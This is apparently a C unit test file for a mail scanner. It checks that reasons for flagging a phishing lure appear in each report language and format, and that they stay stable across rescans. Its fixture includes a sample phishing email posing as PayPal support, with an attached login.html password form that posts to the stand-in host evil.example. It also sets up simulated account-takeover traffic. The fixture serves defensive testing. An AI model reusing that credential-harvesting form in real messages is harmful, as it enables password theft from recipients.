/* test_lure_words.c - why a mail looks like a lure is told in the language of the report, in
 * English where the program speaks English, and as it stands where an older program wrote it down.
 */
#include "check.h"
#include "scan_box.h"

#include "base/json.h"
#include "base/said.h"
#include "commands.h"
#include "report/report.h"

#include <stdio.h>
#include <string.h>

/* Of reasons of the lure below, in each language. */
static const char *const english[] = {"it calls itself", "names with this ending are cheap",
                                      "it greets nobody", "its subject presses"};
static const char *const vietnamese[] = {"thư tự xưng", "tên có đuôi này rất rẻ",
                                         "lời chào không gọi tên ai", "tiêu đề thúc ép"};
static const char *const chinese[] = {"它自称", "这种后缀的域名很便宜", "称呼不指名道姓",
                                      "主题施加压力"};

static void send_from(struct scan_box *box, int hour, const char *agent, const char *ip,
                      const char *zone)
{
    char text[600];

    snprintf(text, sizeof(text),
             "From: owner@acme.example\r\nTo: buyer@partner.example\r\nSubject: About our order\r\n"
             "Date: %d Jun 2025 %02d:00:00 %s\r\nMessage-ID: <h%d@acme.example>\r\n"
             "User-Agent: %s\r\nX-Originating-IP: [%s]\r\n\r\nHello.\r\n",
             1 + hour / 24, hour % 24, zone, hour, agent, ip);
    scan_box_mail(box, box->sent, str_of(text));
}

/* The lure on the 15th, and two days later mail from a program that is not the owner's. */
static int64_t take_over(struct scan_box *box)
{
    int64_t lure = scan_box_letter(
        box, box->inbox, "PayPal Support <it@secure-helpdesk.top>",
        "Your mailbox will be suspended",
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
        "Dear user, verify your password within 24 hours.\r\n--b\r\n"
        "Content-Type: text/html; name=login.html\r\n"
        "Content-Disposition: attachment; filename=login.html\r\n\r\n"
        "<form action=\"https://evil.example/x\"><input type=password></form>\r\n--b--\r\n");

    for (int i = 0; i < 120; i++)
        send_from(box, i, "Thunderbird 115", "198.51.100.7", "+0000");
    for (int i = 0; i < 3; i++)
        send_from(box, 400 + i, "EvilMailer 1.0", "203.0.113.99", "+0700");
    scan_box_finish(box);
    return lure;
}

static void print(struct scan_box *box, const char *language, enum report_format format,
                  struct buf *out)
{
    struct report_setup setup = {.cf = box->sample.cf,
                                 .data_dir = DATA_DIR,
                                 .language = language,
                                 .version = "0.1.0",
                                 .now = 1764000000};
    struct error err = {0};

    assert_ok(report_make(&setup, format, out, &err), &err);
}

static bool has(const struct buf *text, const char *part)
{
    return str_find(buf_as_str(text), str_of(part)) < text->len;
}

static void a_report_tells_them_in_its_own_language(void **state)
{
    static const struct {
        const char *language;
        const char *const *want;
        size_t count;
    } rows[] = {
        {"en", english, ARRAY_LEN(english)}, /* the control: they are told at all */
        {"vi", vietnamese, ARRAY_LEN(vietnamese)},
        {"zh", chinese, ARRAY_LEN(chinese)},
    };
    static const enum report_format formats[] = {REPORT_HTML, REPORT_MARKDOWN, REPORT_JSON};
    struct scan_box *box = *state;
    struct buf out;

    take_over(box);
    for (size_t i = 0; i < ARRAY_LEN(rows) * ARRAY_LEN(formats); i++) {
        size_t row = i / ARRAY_LEN(formats);

        print(box, rows[row].language, formats[i % ARRAY_LEN(formats)], &out);
        for (size_t k = 0; row > 0 && k < ARRAY_LEN(english); k++)
            if (has(&out, english[k]))
                fail_msg("%s: %s", rows[row].language, english[k]);
        for (size_t k = 0; k < rows[row].count; k++)
            if (!has(&out, rows[row].want[k]))
                fail_msg("%s: no %s", rows[row].language, rows[row].want[k]);
        buf_dispose(&out);
    }
}

static void findings_and_lists_tell_them_in_english(void **state)
{
    struct scan_box *box = *state;
    struct arena arena = {0};
    struct message message;
    struct finding finding;
    struct json json = {0};
    struct buf out;

    message = scan_box_message(box, &arena, take_over(box));
    finding = scan_box_finding(box, &arena, "lure");
    assert_true(scan_box_says(&finding, "login.html asks for a password"));
    buf_init(&out, 65536);
    json.out = &out;
    json_object(&json, NULL);
    message_fields_to_json(&json, &message);
    json_close(&json, '}');
    assert_true(has(&out, "\"text\":\"login.html asks for a password\""));
    assert_false(has(&out, "{1}"));
    buf_dispose(&out);
    arena_dispose(&arena);
}

static void another_scan_changes_none_of_them(void **state)
{
    struct scan_box *box = *state;
    struct arena arena = {0};
    struct message before, after;
    int64_t id = take_over(box);

    before = scan_box_message(box, &arena, id);
    assert_true(said_is_marked(str_of(before.lure_reasons)));
    scan_box_finish(box);
    after = scan_box_message(box, &arena, id);
    assert_string_equal(before.lure_reasons, after.lure_reasons);
    arena_dispose(&arena);
}

static void those_of_an_older_program_stay_as_they_are(void **state)
{
    static const char old[] = "25 it is in a hurry: \"24 hours\"\n-8 it is list mail\n";
    struct str rest = str_of(old), text;
    struct buf out;
    int points;

    (void)state;
    buf_init(&out, 400);
    while (message_lure_reason(&rest, &points, &text)) {
        said_plain(&out, text, NULL, NULL);
        buf_printf(&out, " %d; ", points);
    }
    assert_string_equal(buf_c(&out), "it is in a hurry: \"24 hours\" 25; it is list mail -8; ");
    buf_dispose(&out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(a_report_tells_them_in_its_own_language, scan_box_open,
                                        scan_box_close),
        cmocka_unit_test_setup_teardown(findings_and_lists_tell_them_in_english, scan_box_open,
                                        scan_box_close),
        cmocka_unit_test_setup_teardown(another_scan_changes_none_of_them, scan_box_open,
                                        scan_box_close),
        cmocka_unit_test(those_of_an_older_program_stay_as_they_are),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
